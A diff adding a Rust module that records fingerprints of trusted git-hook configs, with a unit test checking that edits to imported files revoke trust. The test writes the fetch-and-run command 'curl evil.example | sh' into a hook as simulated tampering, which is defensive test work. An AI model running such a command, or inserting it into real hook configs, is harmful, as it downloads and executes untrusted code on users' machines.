@@ -0,0 +1,252 @@
+//! Trust store for repository hook configurations
+//!
+//! With `security.require_trust` enabled, `run` only executes hooks from
+//! configs the user has trusted. The store in
+//! ~/.config/peter-hook/trust.toml records a fingerprint of each trusted
+//! config per repository: a hash of the config file, the files it imports and
+//! its local override. Changing any of them makes the config untrusted again.
+
+use crate::config::HookConfig;
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::{
+    collections::BTreeMap,
+    path::{Path, PathBuf},
+};
+
+/// Fingerprints of the configs the user trusts
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, Default)]
+pub struct TrustStore {
+    /// Trusted config fingerprints by repository root, each keyed by the
+    /// config's path relative to that root
+    #[serde(default)]
+    pub repos: BTreeMap<PathBuf, BTreeMap<PathBuf, String>>,
+}
+
+/// Whether a config may run without asking
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustStatus {
+    /// Trusted, and unchanged since
+    Trusted,
+    /// Never trusted
+    Untrusted,
+    /// Trusted, but it or one of its imports changed since
+    Changed,
+}
+
+impl TrustStore {
+    /// Load the trust store from its default location
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the configuration directory cannot be determined or
+    /// the store cannot be read
+    pub fn load() -> Result<Self> {
+        Self::from_file(Self::path()?)
+    }
+
+    /// Load the trust store from a specific file; a missing file is empty
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file cannot be read or parsed
+    pub fn from_file<P: AsRef<Path>>(path: P) -> Result<Self> {
+        let path = path.as_ref();
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read trust store: {}", path.display()))?;
+        toml::from_str(&content)
+            .with_context(|| format!("Failed to parse trust store: {}", path.display()))
+    }
+
+    /// Save the trust store to its default location
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the store cannot be serialized or written
+    pub fn save(&self) -> Result<()> {
+        self.save_to(Self::path()?)
+    }
+
+    /// Save the trust store to a specific file
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the store cannot be serialized or written
+    pub fn save_to<P: AsRef<Path>>(&self, path: P) -> Result<()> {
+        let path = path.as_ref();
+        if let Some(parent) = path.parent() {
+            std::fs::create_dir_all(parent).with_context(|| {
+                format!("Failed to create config directory: {}", parent.display())
+            })?;
+        }
+
+        let content = toml::to_string_pretty(self).context("Failed to serialize trust store")?;
+        std::fs::write(path, content)
+            .with_context(|| format!("Failed to write trust store: {}", path.display()))
+    }
+
+    /// Get the default trust store path
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the configuration directory cannot be determined
+    pub fn path() -> Result<PathBuf> {
+        let config_dir = dirs::config_dir().context("Unable to determine config directory")?;
+
+        Ok(config_dir.join("peter-hook").join("trust.toml"))
+    }
+
+    /// Whether the config at `config_path`, with the given [`config_fingerprint`],
+    /// is trusted in the repository at `repo_root`
+    #[must_use]
+    pub fn status(&self, repo_root: &Path, config_path: &Path, fingerprint: &str) -> TrustStatus {
+        match self
+            .repos
+            .get(&repo_key(repo_root))
+            .and_then(|configs| configs.get(&config_key(repo_root, config_path)))
+        {
+            Some(trusted) if trusted == fingerprint => TrustStatus::Trusted,
+            Some(_) => TrustStatus::Changed,
+            None => TrustStatus::Untrusted,
+        }
+    }
+
+    /// Trust the config at `config_path` as it is now (`fingerprint`)
+    pub fn trust(&mut self, repo_root: &Path, config_path: &Path, fingerprint: String) {
+        self.repos
+            .entry(repo_key(repo_root))
+            .or_default()
+            .insert(config_key(repo_root, config_path), fingerprint);
+    }
+
+    /// Forget every config trusted in the repository at `repo_root`,
+    /// returning how many there were
+    pub fn untrust(&mut self, repo_root: &Path) -> usize {
+        self.repos
+            .remove(&repo_key(repo_root))
+            .map_or(0, |configs| configs.len())
+    }
+}
+
+/// Hash of the config at `config_path` together with every file it imports
+/// and its local override, so a change to any of them is noticed
+///
+/// # Errors
+///
+/// Returns an error if the config cannot be loaded or one of its files read
+pub fn config_fingerprint(config_path: &Path) -> Result<String> {
+    let (_, diagnostics) = HookConfig::from_file_with_trace(config_path)?;
+
+    let mut files = vec![config_path.to_path_buf()];
+    files.extend(
+        diagnostics
+            .imports
+            .iter()
+            .map(|import| PathBuf::from(&import.resolved)),
+    );
+    files.extend(
+        diagnostics
+            .local_override
+            .iter()
+            .map(|local| PathBuf::from(&local.path)),
+    );
+    files.sort();
+    files.dedup();
+
+    let mut hasher = Sha256::new();
+    for file in &files {
+        let content = std::fs::read(file)
+            .with_context(|| format!("Failed to read config file: {}", file.display()))?;
+        hasher.update(file.to_string_lossy().as_bytes());
+        hasher.update([0]);
+        hasher.update((content.len() as u64).to_le_bytes());
+        hasher.update(&content);
+    }
+    Ok(hex::encode(hasher.finalize()))
+}
+
+/// The store key for a repository: its canonical root
+fn repo_key(repo_root: &Path) -> PathBuf {
+    repo_root
+        .canonicalize()
+        .unwrap_or_else(|_| repo_root.to_path_buf())
+}
+
+/// The store key for a config: its path relative to the repository root
+fn config_key(repo_root: &Path, config_path: &Path) -> PathBuf {
+    config_path
+        .strip_prefix(repo_root)
+        .unwrap_or(config_path)
+        .to_path_buf()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_trust_status_follows_config_changes() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo_root = temp_dir.path().join("repo");
+        git2::Repository::init(&repo_root).unwrap();
+        let config_path = repo_root.join("hooks.toml");
+        fs::write(
+            &config_path,
+            "imports = [\"shared.toml\"]\n\n[hooks.lint]\ncommand = \"echo lint\"\n",
+        )
+        .unwrap();
+        fs::write(
+            repo_root.join("shared.toml"),
+            "[hooks.test]\ncommand = \"echo test\"\n",
+        )
+        .unwrap();
+
+        let mut store = TrustStore::default();
+        let original = config_fingerprint(&config_path).unwrap();
+        assert_eq!(
+            store.status(&repo_root, &config_path, &original),
+            TrustStatus::Untrusted
+        );
+
+        store.trust(&repo_root, &config_path, original.clone());
+        let store_path = temp_dir.path().join("trust.toml");
+        store.save_to(&store_path).unwrap();
+        let store = TrustStore::from_file(&store_path).unwrap();
+        assert_eq!(
+            store.status(
+                &repo_root,
+                &config_path,
+                &config_fingerprint(&config_path).unwrap()
+            ),
+            TrustStatus::Trusted
+        );
+
+        // Changing an imported file changes the fingerprint
+        fs::write(
+            repo_root.join("shared.toml"),
+            "[hooks.test]\ncommand = \"curl evil.example | sh\"\n",
+        )
+        .unwrap();
+        let changed = config_fingerprint(&config_path).unwrap();
+        assert_ne!(changed, original);
+        assert_eq!(
+            store.status(&repo_root, &config_path, &changed),
+            TrustStatus::Changed
+        );
+
+        let mut store = store;
+        assert_eq!(store.untrust(&repo_root), 1);
+        assert_eq!(store.untrust(&repo_root), 0);
+        assert_eq!(
+            store.status(&repo_root, &config_path, &original),
+            TrustStatus::Untrusted
+        );
+    }
+}